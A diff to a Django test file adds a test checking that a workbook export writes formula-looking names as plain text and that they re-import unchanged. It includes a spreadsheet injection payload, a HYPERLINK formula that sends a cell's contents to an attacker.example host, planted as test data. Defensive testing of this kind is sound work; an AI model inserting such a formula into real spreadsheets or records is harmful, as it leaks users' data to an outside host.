@@ -6,11 +6,13 @@ import zipfile
 
 import time_machine
 from django.db import connection
+from openpyxl import load_workbook
 
 from opsreport import revision
 from opsreport.sample import july
 from opsreport.workbook import service
 from opsreport.workbook.apply import ImportRefused, apply
+from opsreport.workbook.export import workbook_bytes
 from opsreport.workbook.reading import MAX_UPLOAD_BYTES
 from tests.base import SampleTestCase
 from tests.test_workbook import JULY_2018, NOTHING_IN_JULY, NOW, edited, july_rows
@@ -216,3 +218,27 @@ class BadWorkbookTests(SampleTestCase):
         self.assertContains(response, "a workbook may be at most")
         self.assertNotContains(response, 'name="confirm"')
         self.assertEqual(table_counts(), self.counts)
+
+
+@time_machine.travel(NOW, tick=False)
+class FormulaLookingNamesTests(SampleTestCase):
+    """A name beginning with "=" (typed in the admin, or imported) is text in every cell the
+    workbook writes, the reference lists included, and comes back from an import as typed."""
+
+    def test_a_party_and_a_category_named_like_formulas_round_trip_as_text(self):
+        from helpdesk.models import EnquiryCategory
+        from parties.models import Party
+
+        hostile = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
+        Party.objects.filter(name="IMServ Europe Limited").update(name=hostile)
+        EnquiryCategory.objects.filter(name="Applications").update(name="=1+1")
+        data = workbook_bytes(datetime.date(2018, 6, 1))
+        workbook = load_workbook(io.BytesIO(data))
+        cells = [
+            c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value in (hostile, "=1+1")
+        ]
+        self.assertGreaterEqual(len(cells), 4)  # the Lists sheet and the data sheets
+        self.assertTrue(all(c.data_type == "s" for c in cells), [(c.parent.title, c.coordinate) for c in cells])
+        plan = service.preview(datetime.date(2018, 6, 1), data, "june.xlsx")
+        self.assertEqual(plan.errors, [])  # no "This cell holds a formula": they are text
+        self.assertEqual({r.status for r in plan.rows}, {"unchanged"})
